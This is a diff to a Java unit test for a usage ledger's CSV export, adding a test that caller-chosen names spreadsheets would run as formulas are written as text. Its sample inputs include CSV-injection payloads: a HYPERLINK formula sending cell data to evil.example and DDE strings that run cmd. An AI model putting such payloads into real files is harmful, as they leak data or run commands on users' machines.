@@ -33,6 +33,10 @@ class LedgerExportTest {
           "",
           "ünïcødé 日本語 🚀",
           "=1+2",
+          "'=1+2",
+          "'",
+          "@SUM(A1)",
+          "\tstarts with a tab",
           ",",
           "\"",
           "tab\there");
@@ -126,6 +130,44 @@ class LedgerExportTest {
                 + "total_tokens,estimated_tokens,cost,estimated_cost\r\n"
                 + "MONTHLY,2025-03-01T00:00:00Z,team-a,gpt-4o,3,1000,400,200,1200,15,0.00400000,\r\n"
                 + "HOURLY,2025-03-14T10:00:00Z,\"a,\"\"b\"\"\",\" m \",1,0,0,0,0,0,,0.00000000\r\n");
+  }
+
+  @Test
+  void csvNamesThatASpreadsheetWouldRunAsFormulasAreWrittenAsText() throws IOException {
+    // Callers choose consumer and model names (a header, a request's model): one that a
+    // spreadsheet opening the export would take for a formula is written after an apostrophe,
+    // which makes the cell text, and read back without it.
+    UsageLedger ledger = UsageLedger.builder().build();
+    List<String> formulas =
+        List.of(
+            "=HYPERLINK(\"https://evil.example/?\"&A1,\"invoice\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+2",
+            "\r=1+2",
+            "'=already quoted");
+    for (String name : formulas) {
+      ledger.onEvent(rejected(name, name, T));
+    }
+    StringWriter csv = new StringWriter();
+
+    ledger.writeCsv(csv);
+
+    for (String line : csv.toString().split("\r\n")) {
+      for (String field : line.split(",")) {
+        String text = field.startsWith("\"") ? field.substring(1) : field;
+        assertThat(text).as(line).doesNotStartWith("=").doesNotStartWith("+");
+        assertThat(text).as(line).doesNotStartWith("-").doesNotStartWith("@");
+        assertThat(text).as(line).doesNotStartWith("\t").doesNotStartWith("\r");
+      }
+    }
+    assertThat(csv.toString())
+        .contains("'=HYPERLINK(", "'+1+cmd", ",'-2+3,", "'@SUM(", "''=already quoted");
+    List<LedgerEntry> read = UsageLedger.readCsv(new StringReader(csv.toString()));
+    assertThat(read).isEqualTo(ledger.entries());
+    assertThat(read).extracting(LedgerEntry::consumer).containsAll(formulas);
+    assertThat(read).extracting(LedgerEntry::model).containsAll(formulas);
   }
 
   @Test
